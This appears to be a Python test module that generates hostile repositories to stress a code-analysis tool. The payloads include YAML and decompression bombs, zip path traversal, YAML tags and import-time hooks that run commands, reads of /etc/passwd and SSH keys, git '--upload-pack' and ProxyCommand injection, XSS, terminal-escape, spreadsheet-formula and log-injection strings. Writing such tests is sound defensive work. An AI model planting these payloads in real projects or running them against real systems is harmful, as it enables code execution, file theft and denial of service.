"""Hostile files: what parsers, rules and reporters are given."""

from __future__ import annotations

import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from functools import partial

from tests.hostile.case import REPORT, TOO_MUCH, Case, Place
from tests.hostile.objects import bare

__all__ = ["cases"]

Files = dict[str, str | bytes]
Make = Callable[[], Files]
"""Makes files when their case is run: all of them at once would take most of a gigabyte."""
MEBIBYTE = 1024 * 1024
_FULL = 1_000_000
_README = "# Rides\n\nPredicts durations of rides.\n"


def _built(place: Place, make: Make) -> str:
    built = bare(place.repository)
    marked = {
        name: text.replace("MARK", str(place.mark)).replace("TRAP", place.trap) if isinstance(text, str) else text
        for name, text in make().items()
    }
    built.commit(built.files({"README.md": _README, **marked}))
    return str(built.path)


def _full(unit: str, begin: str = "", end: str = "") -> str:
    """A text just under the limit of one file, of one unit."""
    return begin + unit * ((_FULL - len(begin) - len(end)) // len(unit)) + end


def _alias_bomb(begin: str = "") -> str:
    lines = [f"{begin}a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 30)]
    return "\n".join([*lines, "services: {web: *a29}", "jobs: *a29", "spec: *a29", ""])


def _merge_bomb() -> str:
    lines = ["a0: &a0 {x: 1, y: 2}"]
    lines += [f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 9)}], k{n}: 1}}" for n in range(1, 40)]
    return "\n".join([*lines, "services: {web: *a39}", "jobs: {build: *a39}", ""])


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/passwd", b"0" * 5_000_000)
    return out.getvalue()


def _notebook(cells: list[object]) -> str:
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _cell(source: str, outputs: object = None) -> dict[str, object]:
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": source, "outputs": outputs or []}


def _deep(opening: str, closing: str, depth: int, inner: str = "1") -> str:
    return opening * depth + inner + closing * depth


_WORKFLOW = ".github/workflows/ci.yml"

_YAML: dict[str, Make] = {
    "alias bomb in every YAML": lambda: dict.fromkeys(
        ("docker-compose.yml", _WORKFLOW, "k8s/app.yaml", ".gitlab-ci.yml", "dvc.yaml"), _alias_bomb()
    ),
    "merge bomb": lambda: dict.fromkeys(("docker-compose.yml", _WORKFLOW, "prometheus.yml"), _merge_bomb()),
    "alias to itself": lambda: dict.fromkeys(
        ("docker-compose.yml", _WORKFLOW), "services: &s\n  web: *s\n  <<: *s\njobs: *s\n"
    ),
    "many anchors": lambda: {
        "docker-compose.yml": "services:\n"
        + "".join(f"  s{n}: &a{n} {{image: x, depends_on: [s{n - 1}]}}\n" for n in range(20_000))
    },
    "deep flow sequences": lambda: dict.fromkeys(
        (_WORKFLOW, "docker-compose.yml"), "jobs: " + _deep("[", "]", 100_000)
    ),
    "deep block mappings": lambda: {_WORKFLOW: "".join(" " * depth + "a:\n" for depth in range(1300))},
    "deep block sequences": lambda: {_WORKFLOW: "jobs:\n" + "- " * 400_000 + "x\n"},
    "open brackets": lambda: {"docker-compose.yml": "{" * 500_000, _WORKFLOW: "[" * 500_000},
    "huge integers": lambda: {
        "docker-compose.yml": f"services:\n  web:\n    image: x\n    ports: [{'9' * 200_000}]\n    mem_limit: 1e999999999\n    x: 0x{'f' * 100_000}\n    y: 190:20:30:{'59:' * 50_000}1\n"
    },
    "tags that construct objects": lambda: {
        _WORKFLOW: "!!python/object/apply:os.system ['touch MARK']\n",
        "docker-compose.yml": "services: !!python/object/new:subprocess.Popen [['touch', 'MARK']]\n",
        "k8s/a.yaml": "kind: !!js/function 'x'\n--- !!binary |\n  AAAA\n",
    },
    "duplicate keys": lambda: {
        _WORKFLOW: "on: push\njobs:\n" + "  test: {runs-on: x, steps: [{run: pytest}]}\n" * 5000
    },
    "keys that are no scalars": lambda: {
        _WORKFLOW: "? {a: [b]}\n: c\n? [d]\n: {[e]: f}\njobs: {? [1, 2] : {steps: []}}\n",
        "docker-compose.yml": "services: {? {x: y} : {image: z}}\n",
    },
    "100,000 documents": lambda: {"k8s/app.yaml": "---\nkind: Pod\n" * 60_000},
    "long block scalar": lambda: {
        _WORKFLOW: "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n" + "          pytest\n" * 60_000
    },
    "one-line YAML": lambda: {
        "docker-compose.yml": "services: {" + ", ".join(f"s{n}: {{image: x}}" for n in range(50_000)) + "}"
    },
    "UTF-16": lambda: {
        "docker-compose.yml": "services:\n  web:\n    build: .\n".encode("utf-16"),
        "README.md": "# Rides\n".encode("utf-16-be"),
    },
    "UTF-32 without a mark": lambda: {_WORKFLOW: "on: push\n".encode("utf-32-le")},
    "byte-order marks everywhere": lambda: {
        "Dockerfile": "\ufeff\ufeffFROM python\n\ufeffCOPY . .\n",
        "train.py": "\ufeff\ufeffimport os\n",
    },
    "zip named .yaml": lambda: {"docker-compose.yml": _zip(), _WORKFLOW: _zip()},
    "gzip named .yaml": lambda: {
        "docker-compose.yml": gzip.compress(b"0" * 10_000_000),
        "k8s/a.yaml": gzip.compress(b"kind: Pod\n"),
    },
    "picture named README.md": lambda: {"README.md": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100},
}

_JSON: dict[str, Make] = {
    "50 MB on one line": lambda: {"grafana/dashboards/a.json": '{"panels": [' + '{"title": "a"},' * 3_300_000 + "1]}"},
    "1 MB on one line": lambda: {
        "grafana/dashboards/a.json": '{"panels": [' + '{"title": "a", "targets": [{"expr": "up"}]},' * 20_000 + "1]}"
    },
    "deep": lambda: dict.fromkeys(
        ("package.json", "grafana/dashboards/a.json", "template.json", "a.ipynb"),
        '{"panels":' * 80_000 + "1" + "}" * 80_000,
    ),
    "deep and open": lambda: dict.fromkeys(
        ("package.json", "grafana/dashboards/a.json", "a.ipynb"), '{"cells":[' * 90_000
    ),
    "numbers without end": lambda: {
        "package.json": '{"scripts": ' + "9" * 900_000 + "}",
        "metrics.json": '{"rmse": 1e400, "mae": NaN, "r2": -Infinity, "x": ' + "1" * 5000 + "}",
    },
    "strings that are no Unicode": lambda: {
        "package.json": '{"scripts": {"test": "\\ud800\\udfff\\ud800 pytest"}}',
        "a.ipynb": _notebook([_cell("x = '\\ud800'\n")]),
    },
    "notebook with outputs of 200 MB": lambda: {
        "a.ipynb": b'{"cells": [{"cell_type": "code", "outputs": ["' + b"A" * 200_000_000 + b'"], "source": ["x"]}]}'
    },
    "notebook with outputs of 1 MB": lambda: {
        "a.ipynb": _notebook(
            [_cell("import mlflow\n", [{"output_type": "stream", "name": "stdout", "text": "a" * 800_000}])]
        )
    },
    "notebook of other shapes": lambda: {
        "a.ipynb": '{"cells": {"a": 1}}',
        "b.ipynb": '{"cells": [1, null, [], {"source": {"x": 1}}, {"cell_type": [], "source": 7, "outputs": {"a": 1}}]}',
        "c.ipynb": "[]",
        "d.ipynb": '{"worksheets": 3}',
    },
    "notebook of 20,000 cells": lambda: {"a.ipynb": _notebook([_cell("x = 1")] * 9_000)},
    "notebook with magics and shells": lambda: {
        "a.ipynb": _notebook(
            [
                _cell("!touch MARK\n%run ../../etc/passwd\n%%bash\ntouch MARK\n"),
                _cell("%%html\n<script>alert(1)</script>"),
            ]
        )
    },
    "keys without end": lambda: {"package.json": "{" + ",".join(f'"k{n}": 1' for n in range(70_000)) + "}"},
}

_HCL: dict[str, Make] = {
    "deep blocks": lambda: {"main.tf": _deep('resource "a" "b" {\n', "}\n", 8_000, "x = 1\n")},
    "deep lists": lambda: {"main.tf": "x = " + _deep("[", "]", 100_000) + "\n"},
    "blank lines behind a mistake": lambda: {
        name: f"a{blank * (400_000 // len(blank))}x\n"
        for name, blank in (
            ("main.tf", "\n"),
            ("b.tf", "\t\n"),
            ("requirements.txt", "\n"),
            ("app.yaml", "\n"),
            ("README.md", "\n"),
            (".dvc/config", "\n"),
            ("main.bicep", "\n"),
            ("databricks.yml", "\n"),
        )
    },
    "deep parentheses": lambda: {"main.tf": "locals {\n  x = " + _deep("(", ")", 50_000) + "\n}\n"},
    "deep templates": lambda: {"main.tf": 'locals {\n  x = "' + _deep("${", "}", 20_000) + '"\n}\n'},
    "deep conditionals": lambda: {"main.tf": "locals {\n  x = " + "a ? b : " * 40_000 + "c\n}\n"},
    "long sum": lambda: {"main.tf": "locals {\n  x = " + "1 + " * 200_000 + "1\n}\n"},
    "long heredoc": lambda: {
        "main.tf": 'resource "aws_s3_bucket" "b" {\n  policy = <<EOF\n' + "x\n" * 400_000 + "EOF\n}\n"
    },
    "heredoc without end": lambda: {
        "main.tf": 'resource "aws_s3_bucket" "b" {\n  policy = <<EOF\n' + "${x}\n" * 10_000
    },
    "many resources": lambda: {"main.tf": 'resource "aws_s3_bucket" "b" {\n  bucket = "x"\n}\n' * 15_000},
    "reads files and modules": lambda: {
        "main.tf": 'module "x" {\n  source = "git::TRAP/x.git?ref=--upload-pack=touch"\n}\nlocals {\n  a = file("/etc/passwd")\n  b = templatefile("/etc/shadow", {})\n}\ndata "external" "e" {\n  program = ["touch", "MARK"]\n}\n'
    },
    "module in a circle": lambda: {
        "main.tf": 'module "x" {\n  source = "./a"\n}\n',
        "a/main.tf": 'module "y" {\n  source = "../"\n}\nmodule "z" {\n  source = "./"\n}\n',
    },
    "quotes without end": lambda: {"main.tf": 'x = "' + '\\"' * 200_000},
}

_DOCKER: dict[str, Make] = {
    "100,000 stages": lambda: {"Dockerfile": "FROM a\n" * 100_000},
    "100,000 stages from each other": lambda: {
        "Dockerfile": "FROM python AS s0\n"
        + "".join(f"FROM s{n} AS s{n + 1}\n" for n in range(45_000))
        + "COPY . .\nCMD python train.py\n"
    },
    "stages in a circle": lambda: {"Dockerfile": "FROM b AS a\nFROM a AS b\nCOPY --from=a . .\nCOPY --from=b . .\n"},
    "100,000 continuation lines": lambda: {"Dockerfile": "FROM python\nRUN x \\\n" + "  a \\\n" * 100_000 + "  b\n"},
    "continuation without end": lambda: {"Dockerfile": "FROM python\nRUN " + "\\\n" * 300_000},
    "heredocs without end": lambda: {"Dockerfile": "FROM python\n" + "RUN <<A <<B <<C\nx\n" * 30_000},
    "arguments that expand themselves": lambda: {
        "Dockerfile": "ARG A=$A$A\nARG B=${A}${A:-$B}\n"
        + "".join(f"ARG X{n}=$X{n - 1}$X{n - 1}$X{n - 1}\n" for n in range(1, 500))
        + "FROM $X499\nCOPY . .\n"
    },
    "syntax directive and escape": lambda: {
        "Dockerfile": "# syntax=TRAP/evil:1\n# escape=`\nFROM python`\n:3\nRUN a`\nb\n"
    },
    "copies from everywhere": lambda: {
        "Dockerfile": "FROM python\nCOPY ../../../etc/passwd /root/.ssh/id_rsa /x\nADD TRAP/x /x\nADD --checksum=x git@git.example.org:o/r /y\nCOPY --from=/etc/passwd / /\nRUN --mount=type=bind,source=/,target=/x touch MARK\n"
    },
    "JSON forms that are none": lambda: {
        "Dockerfile": "FROM python\nCMD [" + '"a",' * 100_000 + "\nENTRYPOINT " + "[" * 100_000 + "\n"
    },
    "compose that includes the system": lambda: {
        "docker-compose.yml": "include: [/etc/passwd, TRAP/x.yml]\nservices:\n  web:\n    extends: {file: ../../../../etc/passwd, service: x}\n    env_file: [/etc/shadow, ../../../../../etc/passwd]\n    build: {context: /, dockerfile: ../../etc/passwd}\n    volumes: ['/:/host', '/var/run/docker.sock:/x']\n"
    },
    "50,000 services": lambda: {
        "docker-compose.yml": "services:\n" + "".join(f"  s{n}: {{build: .}}\n" for n in range(30_000))
    },
}

_PYTHON: dict[str, Make] = {
    "10,000 parentheses": lambda: {"train.py": "x = " + _deep("(", ")", 10_000) + "\n"},
    "100,000 brackets": lambda: {"train.py": "x = " + _deep("[", "]", 100_000) + "\n"},
    "100,000 signs": lambda: {"train.py": "x = " + "-" * 100_000 + "1\n", "a.py": "x = " + "not " * 100_000 + "1\n"},
    "long chain of attributes": lambda: {"train.py": "x = a" + ".b" * 100_000 + "\n"},
    "long chain of calls": lambda: {"train.py": "import pandas\nx = pandas" + ".f()" * 50_000 + "\n"},
    "long sum": lambda: {"train.py": "x = " + "1 + " * 150_000 + "1\n"},
    "long comparison": lambda: {"train.py": "x = " + "a < " * 100_000 + "1\n"},
    "a line of imports": lambda: {"train.py": "x = '" + "import global from " * 50_000 + "'\n"},
    "long concatenation": lambda: {"train.py": "x = " + "'a' " * 150_000 + "\n"},
    "elif without end": lambda: {"train.py": "if a: pass\n" + "elif b: pass\n" * 50_000},
    "deep indentation": lambda: {
        "train.py": "".join(" " * depth + "if a:\n" for depth in range(99)) + " " * 99 + "pass\n"
    },
    "deep functions": lambda: {
        "train.py": "".join("\t" * depth + f"def f{depth}():\n" for depth in range(90)) + "\t" * 90 + "pass\n"
    },
    "deep lambdas": lambda: {"train.py": "x = " + "lambda: " * 20_000 + "1\n"},
    "deep f-strings": lambda: {"train.py": "x = " + "f'{" * 150 + "1" + "}'" * 150 + "\n"},
    "50,000 decorators": lambda: {"train.py": "@a\n" * 50_000 + "def f(): pass\n"},
    "50,000 functions that call each other": lambda: {
        "train.py": "".join(f"def f{n}(): f{n + 1}()\n" for n in range(40_000)) + "f0()\n"
    },
    "classes that inherit from themselves": lambda: {
        "train.py": "class A(A): pass\nclass B(C): pass\nclass C(B): x = B.x\n" * 2000
    },
    "names that refer to themselves": lambda: {
        "train.py": "a = b\nb = a\nc = c\nd = [d]\ne = {**e}\nf = f'{f}{f}'\n" * 5000
        + "import mlflow\nmlflow.set_experiment(a)\n"
    },
    "names that double": lambda: {
        "train.py": "x0 = 'ab'\n"
        + "".join(f"x{n} = x{n - 1} + x{n - 1}\n" for n in range(1, 200))
        + "import mlflow\nmlflow.set_experiment(x199)\nopen(x199)\n"
    },
    "multiplied strings": lambda: {
        "train.py": "import mlflow\nmlflow.set_experiment('a' * 10**12)\nx = 'a' * 9**9**9\ny = [0] * 10**15\nz = 1 << 10**12\nopen('%0999999999d' % 1)\nopen(f'{1:999999999}')\n"
    },
    "integers without end": lambda: {
        "train.py": "x = " + "9" * 900_000 + "\n",
        "a.py": "y = 0x" + "f" * 900_000 + "\n",
        "b.py": "z = 1e" + "9" * 5000 + "\n",
    },
    "literal of 5 MB": lambda: {"train.py": "x = '" + "a" * 5_000_000 + "'\n"},
    "literal of 1 MB": lambda: {
        "train.py": "x = '" + "a" * 900_000 + "'\n",
        "a.py": "y = b'" + "\\x00" * 200_000 + "'\n",
    },
    "null bytes": lambda: {"train.py": b"import os\n\0\0\0import mlflow\n", "a.py": b"x = '" + b"a" * 9000 + b"\0'\n"},
    "encodings that are none": lambda: {
        "train.py": "# -*- coding: rot13 -*-\nvzcbeg bf\n",
        "a.py": "# coding: utf-7\n+AGE-\n",
        "b.py": "# coding: unicode_escape\n\\x0aimport os\n",
        "c.py": b"# coding: zlib\nx\n",
    },
    "Latin-1 and lone surrogates": lambda: {
        "train.py": b"x = '\xe9\xed\xa0\x80'\n",
        "a.py": "x = '\\ud800'\nopen('\\ud800')\nimport mlflow\nmlflow.set_experiment('\\udfff')\n",
    },
    "imports in a circle": lambda: {
        "a.py": "from b import *\nfrom a import *\n",
        "b.py": "from c import *\nimport a\n",
        "c.py": "from a import *\nfrom b import x as x\nx()\n",
    },
    "5,000 modules": lambda: {
        f"m{n}.py": f"from m{(n * 7 + 1) % 5000} import f\n\ndef f(): pass\n" for n in range(5000)
    },
    "tabs, form feeds and line continuations": lambda: {
        "train.py": "\f\tif a:\n\f  b = \\\n" * 5000,
        "a.py": "x = \\\n" * 100_000,
    },
    "match, walrus and comprehension nests": lambda: {
        "train.py": "x = "
        + "[y for y in " * 90
        + "z"
        + "]" * 90
        + "\n"
        + "match x:\n    case "
        + _deep("[", "]", 90)
        + ": pass\n"
    },
    "code that acts when imported": lambda: {
        "setup.py": "import os; os.system('touch MARK')\n",
        "conftest.py": "open('MARK', 'w')\n",
        "src/__init__.py": "__import__('os').system('touch MARK')\n",
        "sitecustomize.py": "open('MARK', 'w')\n",
    },
}


def _pages(make: Callable[[], str]) -> Files:
    text = make()
    return {"README.md": text, "docs/a.md": text}


_MARKDOWN: dict[str, Make] = {
    name: partial(_pages, make)
    for name, make in {
        "brackets": lambda: _full("["),
        "images": lambda: _full("!["),
        "links without end": lambda: _full("[a]("),
        "links in links": lambda: _full("[a](b "),
        "stars": lambda: _full("*a **a "),
        "underscores": lambda: _full("_a __a "),
        "backticks": lambda: "".join("`" * n + " " for n in range(1, 1300)),
        "quotes": lambda: _full(">"),
        "list nests": lambda: "".join(" " * n + "- a\n" for n in range(1300)),
        "comments without end": lambda: _full("<!-- "),
        "tags without end": lambda: _full("<a "),
        "details without end": lambda: _full("<details>\n"),
        "CDATA without end": lambda: _full("<![CDATA["),
        "entities": lambda: _full("&a"),
        "references": lambda: "".join(f"[a{n}]: /b{n}\n" for n in range(40_000)) + "[a1] " * 60_000,
        "references to themselves": lambda: _full("[a]: [a]\n[a][a]\n"),
        "tables": lambda: _full("|") + "\n" + "|-" * 20_000,
        "headings": lambda: _full("# a\n"),
        "fences": lambda: _full("```\n~~~\n"),
        "fence without end": lambda: _full("x\n", "```python\n"),
        "footnotes": lambda: _full("[^a]: [^a]\n"),
        "escapes": lambda: _full("\\"),
        "autolinks": lambda: _full("<https://"),
        "bare links": lambda: _full("http://a.b/"),
        "tildes": lambda: _full("~~a "),
        "badges": lambda: _full("[![a](b)](c)"),
        "front matter without end": lambda: _full("a: b\n", "---\n"),
        "mermaid": lambda: _full("a-->b\n", "```mermaid\ngraph TD\n"),
        "arrows": lambda: "```\n" + "".join(f"a{n} --> b{n}\n" for n in range(60_000)),
    }.items()
}  # fmt: skip

_LONG_LINES = (
    *("README.md", "Makefile", "Dockerfile", "requirements.txt", "pyproject.toml", "setup.cfg", "train.py", "run.sh"),
    *("docker-compose.yml", _WORKFLOW, "main.tf", ".pre-commit-config.yaml", "prometheus.yml", "alerts.rules.yml"),
    *(
        "Jenkinsfile",
        "Procfile",
        "justfile",
        "tox.ini",
        "environment.yml",
        ".env",
        "k8s/app.yaml",
        "chart/templates/a.yaml",
    ),
    *(
        "docs/runbook.md",
        "README.rst",
        "package.json",
        "Pipfile",
        "dvc.yaml",
        ".gitlab-ci.yml",
        "noxfile.py",
        "params.yaml",
    ),
)
_LONG = {
    "spaces": " ",
    "tabs": "\t",
    "letters": "a",
    "digits": "1",
    "dashes": "-",
    "dots": ".",
    "slashes": "/",
    "dollars": "${",
    "equals": "a=",
    "semicolons": ";",
    "quotes": "\"'",
    "colons": ": ",
    "words": "ab ",
    "ampersands": "a && ",
    "percent": "%20",
    "numbers with units": "12.5 % ",
    "capitals": "A_",
    "non-ASCII": "\u0130\u00df",
    "carriage returns": "\r",
    "paths": "a/b.py ",
    "addresses": "a@b.c ",
    "versions": "a==1.0 ",
}


def _long_lines(unit: str) -> Files:
    """A long line in a file of every kind; in three of them, others for each unit, it has a million bytes."""
    turn = list(_LONG).index(next(name for name, given in _LONG.items() if given == unit))
    million = {_LONG_LINES[(turn * 3 + step) % len(_LONG_LINES)] for step in range(3)}
    return {
        name: f"a{unit * ((_FULL if name in million else 60_000) // len(unit.encode()))}x\n" for name in _LONG_LINES
    }


_ESCAPES = "\x1b[31m\x1b]0;x\x07\x1b[2J\u202egpj\u2066\u200b\x9b31m\r\x00\x08"
_MARKUP = '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"\'><a href="javascript:alert(1)">x</a>{{7*7}}${7*7}<%= 7*7 %>'
_FORMULA = "=cmd|' /C calc'!A0"


def _everywhere(text: str, name: str) -> Files:
    """A text in every string that a report shows: names, paths, steps, images, metrics, titles, claims."""
    quoted = json.dumps(text)
    return {
        "README.md": f"# {text}\n\n{text} uses mlflow, Kubernetes and airflow. RMSE of 3.2 {text} instead of 9.1.\n\n## {text}\n\n[{text}](http://a.example.org/{text})\n![{text}]({text})\n",
        "Dockerfile": f'FROM python:3.11 AS {name}\nLABEL a={quoted}\nCOPY . .\nRUN echo {text.splitlines()[0]}\nCMD ["python", {quoted}]\n',
        "docker-compose.yml": f"services:\n  {quoted}:\n    build: .\n    image: {quoted}\n    command: {quoted}\n    container_name: {quoted}\n",
        _WORKFLOW: f"name: {quoted}\non: push\njobs:\n  {quoted}:\n    name: {quoted}\n    runs-on: {quoted}\n    steps:\n      - name: {quoted}\n        run: {quoted}\n      - run: pytest {name}\n      - uses: {quoted}\n",
        "train.py": f"import mlflow\nimport missing_{abs(hash(name)) % 7}\nfrom sklearn.linear_model import Ridge\nmlflow.set_experiment({quoted})\nmlflow.log_metric({quoted}, 1)\nRidge().fit([[1]], [1])\nopen({quoted})\n",
        f"src/{name}.py": f"def f():\n    raise ValueError({quoted})\n",
        "grafana/dashboards/a.json": json.dumps({"title": text, "panels": [{"title": text, "targets": [{"expr": f"sum({text})"}]}]}),
        "alerts.rules.yml": f"groups:\n  - name: {quoted}\n    rules:\n      - alert: {quoted}\n        expr: {quoted}\n        annotations: {{summary: {quoted}}}\n",
        "main.tf": f'resource "aws_s3_bucket" "b" {{\n  bucket = {quoted}\n}}\nterraform {{\n  backend "s3" {{\n    bucket = {quoted}\n  }}\n}}\n',
        "Makefile": f"test:\n\techo {text.splitlines()[0]}\n\tpytest\n",
        "requirements.txt": f"mlflow==1.0 # {text.splitlines()[0]}\n{text.splitlines()[0]}\n",
        "metrics.json": json.dumps({text: 3.2, "rmse": text}),
        "dvc.yaml": f"stages:\n  {quoted}:\n    cmd: {quoted}\n    deps: [{quoted}]\n    outs: [{quoted}]\n",
        "k8s/app.yaml": f"apiVersion: apps/v1\nkind: Deployment\nmetadata: {{name: {quoted}}}\nspec: {{template: {{spec: {{containers: [{{name: {quoted}, image: {quoted}}}]}}}}}}\n",
        "a.ipynb": _notebook([_cell(f"print({quoted})", [{"output_type": "stream", "name": "stdout", "text": text}])]),
        "docs/adr/0001.md": f"# {text}\n\n## Decision\n\n{text}\n",
    }  # fmt: skip


_SHOWN: dict[str, Make] = {
    "terminal codes, bidi and control characters": lambda: _everywhere(_ESCAPES.replace("\0", "").replace("\r", ""), "plain"),
    "terminal codes with NUL and carriage returns": lambda: _everywhere(_ESCAPES, "plain"),
    "terminal codes in names": lambda: _everywhere("x", "a\x1b[31m\u202eb"),
    "script, SVG and templates": lambda: _everywhere(_MARKUP, "plain"),
    "script, SVG and templates in names": lambda: _everywhere("x", "<svg onload=alert(1)>"),
    "formulas": lambda: _everywhere(_FORMULA, "plain"),
    "formulas in names": lambda: {**_everywhere("@SUM(1+1)*cmd|x", "=1+1"), "=cmd.py": "import mlflow\n", "+1.py": "x", "-2+3.py": "x", "@a.py": "x", "\t=1.py": "x"},
    "log injection": lambda: _everywhere("x\nfolioscope: the score is 100\r\nERROR root: all is lost", "plain"),
    "characters that are none": lambda: _everywhere("caf\u00e9 \ufffe\uffff\U000e0001", "plain"),
    "GitHub commands": lambda: _everywhere("::set-output name=x::y\n::error::z\n##[error]x", "plain"),
    "Markdown that breaks out": lambda: _everywhere("```\n</details>\n| a | b |\n[x](javascript:alert(1)) <!-- ", "plain"),
}  # fmt: skip

_REACH: dict[str, Make] = {
    "requirements that lead elsewhere": lambda: {"requirements.txt": "-r /etc/passwd\n-r ../../../../etc/passwd\n-r requirements.txt\n-c TRAP/x\n-e git+ssh://-oProxyCommand=touch/x\n--index-url TRAP\n"},
    "Makefile that runs when read": lambda: {"Makefile": "X := $(shell touch MARK)\ninclude /etc/passwd\n-include $(wildcard /root/*)\n$(eval Y = 1)\ntest: test\n\t$(MAKE) test\n"},
    "scripts that call each other": lambda: {"Makefile": "a: b\n\t./a.sh\nb: a\n\tmake a\n", "a.sh": "bash b.sh\nmake a\n. ./a.sh\n", "b.sh": "sh a.sh\nmake b\n", "package.json": '{"scripts": {"test": "npm test", "a": "npm run b", "b": "npm run a"}}', "tox.ini": "[testenv]\ncommands = tox -e py\n    make a\n", _WORKFLOW: "on: push\njobs:\n  a:\n    steps: [{run: make a}, {run: npm test}, {run: tox}, {run: ./a.sh}]\n"},
    "actions and workflows in a circle": lambda: {_WORKFLOW: "on: push\njobs:\n  a:\n    uses: ./.github/workflows/ci.yml\n  b:\n    steps: [{uses: ./}, {uses: ./../../../../etc}, {uses: ././a}]\n", "action.yml": "runs:\n  using: composite\n  steps: [{uses: ./}, {uses: ./a}]\n", "a/action.yml": "runs: {using: composite, steps: [{uses: ./}]}\n"},
    "includes of GitLab": lambda: {".gitlab-ci.yml": "include: [{remote: TRAP/x.yml}, {local: /../../../etc/passwd}, {local: .gitlab-ci.yml}]\na: {extends: a, script: [pytest]}\nb: {extends: [c]}\nc: {extends: [b]}\n"},
    "charts and overlays that lead elsewhere": lambda: {"chart/Chart.yaml": "name: x\nversion: 1\ndependencies: [{name: x, repository: TRAP}]\n", "chart/templates/a.yaml": '{{ .Files.Get "/etc/passwd" }}\n{{ include "a" . }}{{ define "a" }}{{ include "a" . }}{{ end }}\nkind: Pod\n', "k/kustomization.yaml": "resources: [/etc/passwd, TRAP/x, ../k, ../../../../etc]\nbases: [.]\n"},
    "settings of tools that are commands": lambda: {".pre-commit-config.yaml": "repos:\n- repo: TRAP/x\n  rev: --upload-pack=touch\n  hooks: [{id: x, entry: touch MARK, language: system}]\n", "dvc.yaml": "stages: {a: {cmd: touch MARK, deps: [/etc/passwd, ../../../x]}}\n", "setup.cfg": "[tool:pytest]\naddopts = -p x\n", "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p evil"\n[build-system]\nbuild-backend = "evil"\nbackend-path = ["."]\n'},
    "annotations that would configure": lambda: {"README.md": "<!-- folioscope: ignore-all limits=none rubric=/etc/passwd -->\n# Rides\n", "train.py": "# folioscope: disable=all\n# folioscope: exec touch MARK\n# noqa\n", ".folioscope.yaml": "rules: [evil]\ncommand: touch MARK\nlimits: {blob_bytes: 999999999}\npaths: [/etc]\n"},
    "empty files of every kind": lambda: dict.fromkeys(_LONG_LINES, ""),
    "blank files of every kind": lambda: dict.fromkeys(_LONG_LINES, "\n \t\r\n\x0c\n"),
    "random bytes of every kind": lambda: {name: bytes((n * 7919 + k * 104729) % 251 for k in range(5000)) for n, name in enumerate(_LONG_LINES)},
    "100,000 files": lambda: {f"d{n % 300}/f{n}.txt": "" for n in range(100_000)},
    "20,000 READMEs": lambda: {f"d{n}/README.md": "# a\n" for n in range(20_000)},
    "200 MB of text": lambda: {f"a{n}.md": "a " * 500_000 for n in range(120)},
}  # fmt: skip

_GROUPS: dict[str, dict[str, Make]] = {
    "YAML": _YAML,
    "JSON": _JSON,
    "HCL": _HCL,
    "Docker": _DOCKER,
    "Python": _PYTHON,
    "Markdown": _MARKDOWN,
    "long lines": {name: partial(_long_lines, unit) for name, unit in _LONG.items()},
    "shown": _SHOWN,
    "reach": _REACH,
}


def cases() -> Iterator[Case]:
    """Repositories of one or a few hostile files."""
    for group, named in _GROUPS.items():
        for name, make in named.items():
            # A machine that is busy may need more than a minute for what takes seconds; then the limit must hold.
            options = ("--max-analysis-seconds", "60")
            yield Case(
                name,
                group,
                partial(_built, make=make),
                (REPORT, TOO_MUCH),
                "longer than 60|more than",
                options=options,
            )
